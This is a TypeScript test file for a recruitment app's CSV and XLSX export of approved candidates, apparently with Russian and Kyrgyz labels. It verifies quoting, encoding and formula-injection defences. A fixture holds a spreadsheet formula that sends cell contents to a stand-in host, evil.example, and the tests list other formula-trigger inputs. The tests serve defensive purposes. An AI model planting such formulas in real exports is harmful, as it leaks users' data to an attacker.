import { Workbook } from 'exceljs';
import { approvedCandidatesCsv, approvedCandidatesXlsx, csvField, type ApprovedCandidateRow } from './approved-candidates-export';

const rows: ApprovedCandidateRow[] = [
  {
    fullNameCyrillic: 'Мамытов Нурлан Асанбекович',
    fullNameLatin: 'MAMYTOV NURLAN',
    birthDate: '1995-03-14',
    vacancyTitle: 'Монтажник, 4 разряд',
    town: 'Сургут',
    decidedOn: '2026-03-10',
    verificationCode: 'K7Q2-9XMD-4HRT-0BWE-VN3J-8PAC-ZF6S',
    verifyUrl: 'https://jumush.example.kg/verify/K7Q2-9XMD-4HRT-0BWE-VN3J-8PAC-ZF6S',
  },
  {
    fullNameCyrillic: '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
    fullNameLatin: '+SUM(1,2)',
    birthDate: '1990-12-31',
    vacancyTitle: 'Повар "горячего цеха"\nсмена 2/2',
    town: '-Кызыл',
    decidedOn: '2026-03-10',
    verificationCode: '@cmd',
    verifyUrl: 'https://jumush.example.kg/verify/X',
  },
];

describe('csvField', () => {
  it.each([
    ['plain', 'plain'],
    ['Сургут', 'Сургут'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\rlf', '"cr\rlf"'],
    ['=1+2', "'=1+2"],
    ['+7 900 000-00-00', "'+7 900 000-00-00"],
    ['-5', "'-5"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tTAB', "'\tTAB"],
    ['=HYPERLINK("x","y")', '"\'=HYPERLINK(""x"",""y"")"'],
    ['＝1+2', "'＝1+2"],
    ['a=b', 'a=b'],
    ['', ''],
    // Excel in a Russian locale splits on ";" (ignoring quotes that do not open its cell): every cell it could find is defused.
    ['Иванов;=HYPERLINK("x")', '"Иванов;\'=HYPERLINK(""x"")"'],
    ['a;+1;-2;@A1', "\"a;'+1;'-2;'@A1\""],
    ['a; =1', '"a; \'=1"'],
    ['a;\t=1', '"a;\'\t=1"'],
    ['a;\r=1', '"a;\'\r\'=1"'],
    ['a,=1', '"a,\'=1"'],
    ['a,  -5', '"a,  \'-5"'],
    ['line\n=1', '"line\n\'=1"'],
    ['line\r\n@x', '"line\r\n\'@x"'],
    ['a;＝1', '"a;\'＝1"'],
    ['=1;=2', '"\'=1;\'=2"'],
    ['a;b', '"a;b"'],
    ['Монтажник, 4 разряд', '"Монтажник, 4 разряд"'],
    ['Иванов-Петров', 'Иванов-Петров'],
    ['a=b;c+d', '"a=b;c+d"'],
  ])('%j → %j', (input, output) => {
    expect(csvField(input)).toBe(output);
  });
});

describe('approved candidates as CSV', () => {
  const csv = approvedCandidatesCsv(rows);
  const text = csv.toString('utf8');

  it('starts with a UTF-8 byte order mark', () => {
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('has a header row and one record per candidate, CRLF-terminated', () => {
    const lines = text.slice(1).split('\r\n');
    expect(lines[0]).toBe('ФИО,ФИО латиницей,Дата рождения,Вакансия,Населённый пункт,Дата решения,Код проверки,Адрес проверки');
    expect(lines[1]).toBe(
      'Мамытов Нурлан Асанбекович,MAMYTOV NURLAN,1995-03-14,"Монтажник, 4 разряд",Сургут,2026-03-10,K7Q2-9XMD-4HRT-0BWE-VN3J-8PAC-ZF6S,https://jumush.example.kg/verify/K7Q2-9XMD-4HRT-0BWE-VN3J-8PAC-ZF6S',
    );
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('quotes what needs quoting and defuses formulas', () => {
    const record = text.slice(1).split('\r\n').slice(2).join('\r\n');
    expect(record).toBe(
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""Нажмите"")","\'+SUM(1,2)",1990-12-31,"Повар ""горячего цеха""\nсмена 2/2",\'-Кызыл,2026-03-10,\'@cmd,https://jumush.example.kg/verify/X\r\n',
    );
  });

  it('parses back to the same cells (apostrophes aside)', () => {
    expect(parseCsv(text.slice(1))).toEqual([
      expect.any(Array),
      Object.values(rows[0]),
      [
        "'" + rows[1].fullNameCyrillic,
        "'" + rows[1].fullNameLatin,
        '1990-12-31',
        rows[1].vacancyTitle,
        "'-Кызыл",
        '2026-03-10',
        "'@cmd",
        rows[1].verifyUrl,
      ],
    ]);
  });

  it('speaks the language asked for', () => {
    expect(approvedCandidatesCsv([], 'ky').toString('utf8')).toBe(
      '\uFEFFАты-жөнү,Латын тамгалары менен,Туулган күнү,Жумуш орду,Калк конушу,Чечим чыккан күн,Текшерүү коду,Текшерүү дареги\r\n',
    );
  });

  it('refuses a date that is not a calendar date', () => {
    expect(() => approvedCandidatesCsv([{ ...rows[0], birthDate: '1995-02-29' }])).toThrow(RangeError);
  });
});

describe('approved candidates as XLSX', () => {
  it('opens as a workbook with a header row and the rows, dates as dates, formulas as plain text', async () => {
    const xlsx = await approvedCandidatesXlsx(rows);
    expect(xlsx.subarray(0, 2).toString('latin1')).toBe('PK');
    const workbook = new Workbook();
    await workbook.xlsx.load(arrayBuffer(xlsx));
    const sheet = workbook.worksheets[0];
    expect(sheet.name).toBe('Одобренные кандидаты');
    expect(sheet.rowCount).toBe(3);
    expect(sheet.getRow(1).values).toEqual([
      undefined,
      'ФИО',
      'ФИО латиницей',
      'Дата рождения',
      'Вакансия',
      'Населённый пункт',
      'Дата решения',
      'Код проверки',
      'Адрес проверки',
    ]);
    const first = sheet.getRow(2);
    expect(first.getCell(1).value).toBe('Мамытов Нурлан Асанбекович');
    expect(first.getCell(2).value).toBe('MAMYTOV NURLAN');
    expect(first.getCell(3).value).toEqual(new Date('1995-03-14T00:00:00Z'));
    expect(first.getCell(3).numFmt).toBe('dd.mm.yyyy');
    expect(first.getCell(7).value).toBe('K7Q2-9XMD-4HRT-0BWE-VN3J-8PAC-ZF6S');
    const hostile = sheet.getRow(3);
    expect(hostile.getCell(1).value).toBe(rows[1].fullNameCyrillic);
    expect(hostile.getCell(1).formula).toBeUndefined();
    expect(hostile.getCell(2).value).toBe('+SUM(1,2)');
    expect(hostile.getCell(4).value).toBe('Повар "горячего цеха"\nсмена 2/2');
  });

  it('is a valid workbook with no candidates', async () => {
    const workbook = new Workbook();
    await workbook.xlsx.load(arrayBuffer(await approvedCandidatesXlsx([], 'en')));
    expect(workbook.worksheets[0].getRow(1).getCell(1).value).toBe('Full name');
    expect(workbook.worksheets[0].rowCount).toBe(1);
  });
});

/** exceljs types its input as an ArrayBuffer; a copy of the bytes is one. */
function arrayBuffer(bytes: Buffer): ArrayBuffer {
  return new Uint8Array(bytes).buffer;
}

/** A strict RFC 4180 reader, to check the writer against. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += char;
  }
  return records;
}
